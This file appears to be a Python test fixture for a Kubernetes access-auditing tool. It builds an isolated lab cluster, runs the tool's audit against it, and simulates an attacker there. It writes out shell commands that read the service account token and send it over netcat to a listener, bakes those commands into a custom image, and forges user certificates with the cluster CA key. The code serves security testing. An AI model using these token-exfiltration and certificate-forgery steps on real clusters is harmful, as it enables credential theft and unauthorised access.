"""A lab worth robbing: what is in it, who would rob it, and where its pods send what they take."""

import asyncio
import ctypes
import json
import os
import platform
import socket
import subprocess
import sys
from base64 import b64encode
from collections.abc import AsyncGenerator
from concurrent.futures import ThreadPoolExecutor
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from functools import partial
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import msgspec
import yaml

from shipkeeper.kube.connection import Connection
from shipkeeper.kube.errors import NotFoundError
from shipkeeper.sandbox.lab import Lab
from shipkeeper.sandbox.lab.archive import Image, write_archive
from shipkeeper.sandbox.lab.base import find_base
from shipkeeper.sandbox.lab.bring_up import import_images
from shipkeeper.sandbox.lab.images import ARCHITECTURES, BUSYBOX, PAUSE
from shipkeeper.sandbox.lab.layout import LabLayout
from shipkeeper.sandbox.lab.network import Switch
from shipkeeper.sandbox.lab.record import SWITCH_ADDRESS
from tests.access.forgery import forged
from tests.access.robber import deployment, pod
from tests.access.servers import with_credentials
from tests.access.ways import NAMESPACE, STRICT, landscape
from tests.access.world import connected, create, delete
from tests.cli.run import SHIPKEEPER

BASELINE = "ways-baseline"
WORKER, CONTROL_PLANE = "w1", "cp1"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
_CLONE_NEWNET = 0x40000000
_ENFORCE = "pod-security.kubernetes.io/enforce"
_PATIENCE = 400
_LIBC = ctypes.CDLL(None, use_errno=True)


class LabTown(msgspec.Struct, frozen=True, kw_only=True):
    """A lab with a mighty ServiceAccount in it, its administrator, and an audit of it."""

    lab: Lab
    place: Path
    kubeconfig: Path
    kubelet: Path
    """A kubeconfig that leads to the worker's kubelet, with nobody's credentials."""
    admin: Connection
    loot: "Loot"
    mine: str
    """An image of the robber's own, on the worker."""
    told: list[dict[str, Any]]

    @property
    def ca(self) -> Path:
        """The certificate of the cluster's authority."""
        return self.lab.host(CONTROL_PLANE).root / "etc/kubernetes/pki/ca.crt"

    def issue_kubeconfig(self, user: str, groups: tuple[str, ...] = ()) -> Path:
        """Credentials of a user, signed with the cluster's own key."""
        key = self.ca.with_suffix(".key").read_bytes()
        own = forged(self.ca.read_bytes(), key, user, *groups)
        return with_credentials(self.kubeconfig, self.place / f"{user}.kubeconfig", own)

    def rules_about(self, user: str) -> set[str]:
        """What the audit found about a user."""
        return {each["rule"] for each in self.told if each["target"] == f"user/{user}"}

    def sending(self, name: str, file: str) -> dict[str, Any]:
        """A container that sends a file by this name."""
        return {"image": BUSYBOX, "command": ["sh", "-c", self.loot.sent_by(name, file)]}


class Loot:
    """What pods sent, by the name that they gave it."""

    def __init__(self, port: int) -> None:
        self._port = port
        self._found: dict[str, bytes] = {}

    def sent_by(self, name: str, file: str) -> str:
        """The shell's words to send a file."""
        sent = f"(echo {name}; cat {file}) | nc {SWITCH_ADDRESS} {self._port}"
        return f"until [ -s {file} ] && {sent}; do sleep 1; done; exec sleep 100000"

    async def take(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Keep what somebody sends."""
        name, _, content = (await reader.read()).partition(b"\n")
        if content:
            self._found[name.decode()] = content
        writer.close()

    async def of(self, name: str) -> str:
        """What came by a name, once it came."""
        async with asyncio.timeout(_PATIENCE):
            while name not in self._found:
                await asyncio.sleep(0.1)
        return self._found[name].decode()


@asynccontextmanager
async def lab_town(lab: Lab, place: Path, objects: list[dict[str, Any]]) -> AsyncGenerator[LabTown]:
    """Make a lab a town, with these objects besides, and look at it once as an auditor would."""
    async with AsyncExitStack() as stack:
        config = yaml.safe_load(lab.kubeconfig.read_text())
        ways_in = [
            await stack.enter_async_context(_door(lab, each, place))
            for each in (config, _kubelet_of(lab, config))
        ]
        admin = await stack.enter_async_context(connected(ways_in[0]))
        loot = await stack.enter_async_context(_loot(lab))
        mine = await asyncio.to_thread(_own_image, lab, place, loot.sent_by("mine", TOKEN))
        everything = [*_objects(), *objects]
        try:
            await create(admin, *everything)
            path = f"/apis/apps/v1/namespaces/{NAMESPACE}/deployments"
            await admin.send("POST", path, body=deployment("app", "default"))
            told = await asyncio.to_thread(_told, lab)
            yield LabTown(
                lab=lab,
                place=place,
                kubeconfig=ways_in[0],
                kubelet=ways_in[1],
                admin=admin,
                loot=loot,
                mine=mine,
                told=told,
            )
        finally:
            await _leave(admin, everything)


def _objects() -> list[dict[str, Any]]:
    """The landscape, as far as it is not there anyway, and a pod of the mighty ServiceAccount."""
    there = ("Node", "Pod")
    found = [each for each in landscape() if each["kind"] not in there]
    found = [
        each for each in found if each["metadata"]["name"] not in ("cluster-admin", "kube-system")
    ]
    baseline = {"name": BASELINE, "labels": {_ENFORCE: "baseline"}}
    secret = {"apiVersion": "v1", "kind": "Secret", "data": {"key": "cHJpemU="}}
    target = pod(
        "target",
        nodeName=WORKER,
        serviceAccountName="mighty",
        terminationGracePeriodSeconds=1,
        container={"image": PAUSE},
    )
    target["metadata"]["namespace"] = NAMESPACE
    return [
        *found,
        {"apiVersion": "v1", "kind": "Namespace", "metadata": baseline},
        {**secret, "metadata": {"name": "prize", "namespace": "kube-system"}},
        target,
    ]


def _told(lab: Lab) -> list[dict[str, Any]]:
    words = ("access", "audit", "-o", "json", "--fail-on", "never")
    command = lab.inside(SHIPKEEPER, *words, "--kubeconfig", str(lab.kubeconfig))
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=600)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)["findings"]


async def _leave(admin: Connection, objects: list[dict[str, Any]]) -> None:
    """Take everything away again, and return when no pod of it is left."""
    spaces = (NAMESPACE, STRICT, BASELINE)
    query = {"gracePeriodSeconds": "1"}
    for each in spaces:
        with suppress(NotFoundError):
            # First whoever would make new pods for those that go.
            for kind in ("deployments", "replicasets"):
                await admin.send("DELETE", f"/apis/apps/v1/namespaces/{each}/{kind}")
            await admin.send("DELETE", f"/api/v1/namespaces/{each}/pods", query=query)
    volumes = msgspec.json.decode(await admin.send("GET", "/api/v1/persistentvolumes"))["items"]
    for name in (each["metadata"]["name"] for each in volumes):
        if name.startswith("way-"):
            await admin.send("DELETE", f"/api/v1/persistentvolumes/{name}")
    await delete(admin, *objects)
    async with asyncio.timeout(_PATIENCE):
        while await _pods_in(admin, spaces):
            await asyncio.sleep(0.2)


async def _pods_in(admin: Connection, spaces: tuple[str, ...]) -> list[str]:
    found = msgspec.json.decode(await admin.send("GET", "/api/v1/pods"))["items"]
    names = (each["metadata"] for each in found)
    return [each["name"] for each in names if each["namespace"] in spaces]


def _own_image(lab: Lab, place: Path, script: str) -> str:
    """No lab has a registry: the robber's image comes to the worker by hand."""
    name = "localhost/mine:lab"
    busybox = find_base(partial(print, file=sys.stderr)) / "bin/busybox"
    image = Image(
        references=(name,),
        files={"bin/busybox": busybox},
        links={f"bin/{applet}": "busybox" for applet in ("sh", "nc", "cat", "echo", "sleep")},
        entrypoint=("/bin/sh", "-c", script),
    )
    archive = place / "mine.tar"
    write_archive(image, archive, ARCHITECTURES[platform.machine()])
    import_images((archive,), lab.host(WORKER))
    return name


@asynccontextmanager
async def _loot(lab: Lab) -> AsyncGenerator[Loot]:
    listening = _socket_in(lab.layout)
    listening.bind((SWITCH_ADDRESS, 0))
    found = Loot(listening.getsockname()[1])
    async with await asyncio.start_server(found.take, sock=listening):
        yield found


def _kubelet_of(lab: Lab, config: dict[str, Any]) -> dict[str, Any]:
    """A kubeconfig for the worker's kubelet, whose certificate is of its own making."""
    found = lab.run(WORKER, "cat", "/var/lib/kubelet/pki/kubelet.crt").stdout
    own = b64encode(found.encode()).decode()
    cluster = {"server": f"https://{WORKER}:10250", "certificate-authority-data": own}
    return {**config, "clusters": [{**config["clusters"][0], "cluster": cluster}], "users": []}


@asynccontextmanager
async def _door(lab: Lab, config: dict[str, Any], place: Path) -> AsyncGenerator[Path]:
    """A kubeconfig led through a port of this machine into the lab's network."""
    cluster: dict[str, str] = config["clusters"][0]["cluster"]
    server = urlsplit(cluster["server"])
    host = WORKER if server.hostname == WORKER else CONTROL_PLANE
    beyond = (lab.host(host).address, server.port)

    async def led(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        own = _socket_in(lab.layout)
        try:
            await asyncio.get_running_loop().sock_connect(own, beyond)
        except OSError:
            own.close()
            writer.close()
            return
        answers, requests = await asyncio.open_connection(sock=own)
        await asyncio.gather(_passed(reader, requests), _passed(answers, writer))

    async with await asyncio.start_server(led, "127.0.0.1", 0) as door:
        port = door.sockets[0].getsockname()[1]
        cluster["server"] = f"https://127.0.0.1:{port}"
        cluster["tls-server-name"] = str(server.hostname)
        path = place / f"{host}.kubeconfig"
        path.touch(mode=0o600)
        path.write_text(yaml.safe_dump(config))
        yield path


async def _passed(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with suppress(OSError):
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    writer.close()


def _socket_in(layout: LabLayout) -> socket.socket:
    """A TCP socket of a lab's network: it stays where it was made, whoever uses it."""

    def made() -> socket.socket:
        with Switch(layout.tag).path.open("rb") as namespace:
            if _LIBC.setns(namespace.fileno(), _CLONE_NEWNET):
                number = ctypes.get_errno()
                raise OSError(number, os.strerror(number))
        return socket.socket()

    # The thread is in the lab's network from then on, and ends there.
    with ThreadPoolExecutor(1) as thread:
        found = thread.submit(made).result()
    found.setblocking(False)
    return found
